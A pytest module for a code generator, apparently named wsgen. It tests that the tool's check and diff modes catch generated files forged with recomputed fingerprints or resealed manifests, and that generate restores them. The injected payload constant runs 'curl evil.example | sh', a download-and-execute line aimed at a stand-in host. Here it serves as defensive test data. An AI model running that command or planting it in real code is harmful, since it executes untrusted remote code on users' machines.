"""Nothing stored in the output tree decides that a file is right: only its bytes do.

Whoever can open a pull request can rewrite every file of the generated tree, any mark in
it and any record beside it, and recompute every hash there. So ``--check``, ``--diff`` and
``generate`` compare each file with what the spec renders to now, and nothing else.

The forgeries below are written against the strongest tree a forger could build with
wsgen's earlier marks: a fingerprint line after the header (an unkeyed hash of the body)
and ``.wsgen-manifest.json`` (entries sealed with a plain hash). Whatever of those a tree
holds, a file whose bytes differ from the render is reported, and ``generate`` restores it.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest
from _apps import run_wsgen
from hypothesis import given
from hypothesis import strategies as st

SPEC = """\
version: 1
output: gen
app:
  title: Chat
  include:
    - router: chat
routers:
  chat:
    prefix: /chat
    websockets:
      - path: /room/{room_id:int}
        handler: chat_app.handlers:room
"""
OUT = Path("gen")
MANIFEST = ".wsgen-manifest.json"
FINGERPRINT = "# wsgen-fingerprint: "
INJECTED = "__import__('os').system('curl evil.example | sh')\n"
FILES = ("__init__.py", "app.py", "chat.py")


def _hash(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()[:16]


def reseal_fingerprint(text: str) -> str:
    """``text`` with a fingerprint line (third line) whose text hash matches the text, as
    a forger recomputes it; ``text`` unchanged when it has no such line."""
    lines = text.split("\n")
    if len(lines) < 3 or not lines[2].startswith(FINGERPRINT):
        return text
    rest = "\n".join(lines[:2]) + "\n" + "\n".join(lines[3:])
    render = lines[2][len(FINGERPRINT) :].split(" ")[0]
    lines[2] = f"{FINGERPRINT}{render} {_hash(rest)}"
    return "\n".join(lines)


def inject(text: str) -> str:
    """``text`` with code added right after its header (and fingerprint line)."""
    lines = text.split("\n")
    at = 3 if len(lines) > 2 and lines[2].startswith(FINGERPRINT) else 2
    return reseal_fingerprint(
        "\n".join([*lines[:at], INJECTED.rstrip("\n"), *lines[at:]])
    )


def _seal(body: dict[str, object]) -> str:
    data = json.dumps(body, sort_keys=True, ensure_ascii=False).encode("utf-8")
    return hashlib.sha256(data).hexdigest()


def forged_manifest(folder: Path, drop: tuple[str, ...] = ()) -> str:
    """A manifest whose entry lists every file of ``folder`` (minus ``drop``) with the
    digest of its bytes now, sealed again: what a forger writes."""
    files = {
        path.name: hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.glob("*.py"))
        if path.name not in drop
    }
    try:
        document = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
        entry = dict(document["specs"]["wsgen.yaml"])
    except (OSError, ValueError, KeyError):
        document = {"format": 1, "generated_by": "wsgen", "specs": {}}
        entry = {"spec": "", "wsgen": "", "output": "gen", "warnings": []}
    entry.pop("seal", None)
    entry["files"] = files
    entry["seal"] = _seal(entry)
    document["specs"] = {"wsgen.yaml": entry}
    return json.dumps(document, indent=2, sort_keys=True) + "\n"


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("pristine")
    (root / "wsgen.yaml").write_text(SPEC, encoding="utf-8")
    result = run_wsgen("generate", "wsgen.yaml", cwd=root)
    assert result.returncode == 0, result.stderr
    return root


@pytest.fixture
def project(pristine: Path, tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(pristine, root)
    return root


def generated(project: Path) -> dict[str, bytes]:
    return {name: (project / OUT / name).read_bytes() for name in FILES}


def assert_caught_and_restored(project: Path, shown: str) -> None:
    good = generated_of(project)
    check = run_wsgen("generate", "wsgen.yaml", "--check", cwd=project)
    assert check.returncode == 1, check.stdout + check.stderr
    assert shown in check.stdout  # the diff (disk -> render) shows the forged code
    assert "up to date" not in check.stdout
    diff = run_wsgen("generate", "wsgen.yaml", "--diff", cwd=project)
    assert diff.returncode == 0 and shown in diff.stdout
    for args in (("--force",), ()):
        fixed = run_wsgen("generate", "wsgen.yaml", *args, cwd=project)
        assert fixed.returncode == 0, fixed.stderr
        assert generated(project) == good
    again = run_wsgen("generate", "wsgen.yaml", "--check", cwd=project)
    assert again.returncode == 0, again.stdout + again.stderr


def generated_of(project: Path) -> dict[str, bytes]:
    """What the spec renders to: a fresh generate in a copy of the project."""
    copy = project.parent / "reference"
    shutil.rmtree(copy, ignore_errors=True)
    copy.mkdir()
    shutil.copy(project / "wsgen.yaml", copy / "wsgen.yaml")
    result = run_wsgen("generate", "wsgen.yaml", cwd=copy)
    assert result.returncode == 0, result.stderr
    return generated(copy)


def test_injected_code_with_a_recomputed_fingerprint_and_no_manifest(
    project: Path,
) -> None:
    chat = project / OUT / "chat.py"
    chat.write_text(inject(chat.read_text(encoding="utf-8")), encoding="utf-8")
    (project / OUT / MANIFEST).unlink(missing_ok=True)
    assert_caught_and_restored(project, "-" + INJECTED.rstrip("\n"))


def test_a_replaced_module_dropped_from_a_resealed_manifest(project: Path) -> None:
    chat = project / OUT / "chat.py"
    top = "".join(chat.read_text(encoding="utf-8").splitlines(keepends=True)[:2])
    chat.write_text(top + INJECTED, encoding="utf-8")
    folder = project / OUT
    (folder / MANIFEST).write_text(forged_manifest(folder, drop=("chat.py",)))
    assert_caught_and_restored(project, "-" + INJECTED.rstrip("\n"))


def test_a_resealed_manifest_listing_the_forged_module(project: Path) -> None:
    chat = project / OUT / "chat.py"
    chat.write_text(inject(chat.read_text(encoding="utf-8")), encoding="utf-8")
    folder = project / OUT
    (folder / MANIFEST).write_text(forged_manifest(folder))
    assert_caught_and_restored(project, "-" + INJECTED.rstrip("\n"))


_stored = st.sampled_from(["none", "kept", "resealed", "resealed-dropped", "junk"])


@given(
    target=st.sampled_from(FILES),
    edit=st.sampled_from(["inject", "append", "replace", "one byte", "strip header"]),
    text=st.text(
        st.characters(codec="utf-8", exclude_categories=["Cs"]), min_size=1, max_size=40
    ),
    reseal=st.booleans(),
    stored=_stored,
)
def test_no_stored_mark_makes_check_accept_other_bytes(
    pristine: Path,
    tmp_path_factory: pytest.TempPathFactory,
    target: str,
    edit: str,
    text: str,
    reseal: bool,
    stored: str,
) -> None:
    root = tmp_path_factory.mktemp("forged") / "project"
    shutil.copytree(pristine, root)
    folder = root / OUT
    path = folder / target
    good = path.read_bytes()
    old = good.decode("utf-8")
    if edit == "inject":
        new = inject(old).replace(INJECTED, text + "\n")
    elif edit == "append":
        new = old + text
    elif edit == "replace":
        new = "".join(old.splitlines(keepends=True)[:2]) + text
    elif edit == "one byte":
        new = old[:-2] + ("x" if old[-2] != "x" else "y") + old[-1]
    else:
        new = "".join(old.splitlines(keepends=True)[2:])
    if reseal:
        new = reseal_fingerprint(new)
    if new.encode("utf-8") == good:
        return
    path.write_bytes(new.encode("utf-8"))
    if stored == "none":
        (folder / MANIFEST).unlink(missing_ok=True)
    elif stored.startswith("resealed"):
        drop = (target,) if stored == "resealed-dropped" else ()
        (folder / MANIFEST).write_text(forged_manifest(folder, drop))
    elif stored == "junk":
        (folder / MANIFEST).write_text('{"format": 1, "specs": {}}\n' + text)
    result = run_wsgen("generate", "wsgen.yaml", "--check", cwd=root)
    assert result.returncode == 1, (edit, stored, result.stdout, result.stderr)
